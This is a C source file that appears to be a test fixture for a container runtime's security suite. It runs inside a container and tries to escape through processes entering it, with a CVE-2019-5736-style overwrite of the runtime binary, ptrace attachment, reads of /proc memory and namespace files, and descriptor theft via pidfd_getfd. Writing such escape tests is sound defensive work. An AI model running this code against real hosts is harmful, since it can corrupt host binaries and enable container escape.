/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * runtime_attack.c - a hostile process of a container: it goes for every process that enters
 *
 * Built statically by runtime_security.bats, executed as /attack in a container. For each process but itself and
 * PID 1 it tries what would give the host away while that one is still the runtime: write to its binary, trace it
 * over execve, read its memory, use its descriptors, root and namespaces. It prints what it got.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* the programs of the container itself */
static int is_ours(const char *exe)
{
	return strcmp(exe, "/bin/busybox") == 0 || strcmp(exe, "/attack") == 0;
}

static int link_of(int pid, const char *what, char *into, size_t size)
{
	char path[300];
	ssize_t n;

	snprintf(path, sizeof path, "/proc/%d/%s", pid, what);
	n = readlink(path, into, size - 1);
	if (n < 0)
		return -1;
	into[n] = '\0';
	return 0;
}

/* CVE-2019-5736: hold the binary, then write to it when nobody executes it any more */
static void try_exe(int pid)
{
	char path[64], exe[4096];
	int held;

	if (link_of(pid, "exe", exe, sizeof exe) < 0 || is_ours(exe))
		return;
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	held = open(path, O_PATH | O_CLOEXEC);
	if (held < 0)
		return;
	printf("HELD %s\n", exe);
	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
	for (int i = 0; i < 500; i++) {
		int fd = open(path, O_WRONLY | O_TRUNC);

		if (fd >= 0) {
			printf("WROTE %s\n", exe);
			(void) !write(fd, "broken", 6);
			close(fd);
			break;
		}
		usleep(100);
	}
	close(held);
}

static void try_fds(int pid)
{
	char path[300], to[4096];
	struct dirent *entry;
	DIR *dir;

	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	dir = opendir(path);
	if (!dir)
		return;
	while ((entry = readdir(dir))) {
		if (atoi(entry->d_name) < 3)
			continue;
		snprintf(path, sizeof path, "fd/%s", entry->d_name);
		if (link_of(pid, path, to, sizeof to) == 0)
			printf("DESCRIPTOR %d %s\n", pid, to);
	}
	closedir(dir);
}

/* Its binary, told as its tracer, says whether it was the runtime still. */
static void try_trace(int pid)
{
	char exe[4096];
	int status;

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return;
	if (link_of(pid, "exe", exe, sizeof exe) == 0 && !is_ours(exe))
		printf("TRACED %d %s\n", pid, exe);
	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	while (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
		if (ptrace(PTRACE_DETACH, pid, NULL, NULL) == 0)
			return;
}

static void try_others(int pid)
{
	static const char *const files[] = {"mem", "root/etc/hostname", "cwd/.", "ns/mnt", "ns/user", "environ", "map_files/."};
	char path[64], exe[4096];
	int pidfd = (int) syscall(SYS_pidfd_open, pid, 0);

	for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
		int fd;

		snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		/* by now it may be a program of the container, whose files these may well be */
		if (link_of(pid, "exe", exe, sizeof exe) == 0 && !is_ours(exe))
			printf("OPENED %s of %s\n", path, exe);
		close(fd);
	}
	for (int number = 3; pidfd >= 0 && number < 20; number++) {
		int fd = (int) syscall(SYS_pidfd_getfd, pidfd, number, 0);

		if (fd >= 0) {
			printf("STOLE descriptor %d of %d\n", number, pid);
			close(fd);
		}
	}
	if (pidfd >= 0)
		close(pidfd);
}

int main(void)
{
	int self = getpid(), seen = 0;

	setvbuf(stdout, NULL, _IOLBF, 0);
	puts("attacking");
	for (;;) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir))) {
			int pid = atoi(entry->d_name);

			if (pid <= 1 || pid == self)
				continue;
			if (pid > seen) {
				seen = pid;
				printf("seen %d\n", pid);
			}
			try_fds(pid);
			try_others(pid);
			try_exe(pid);
			try_trace(pid);
		}
		if (dir)
			closedir(dir);
	}
}
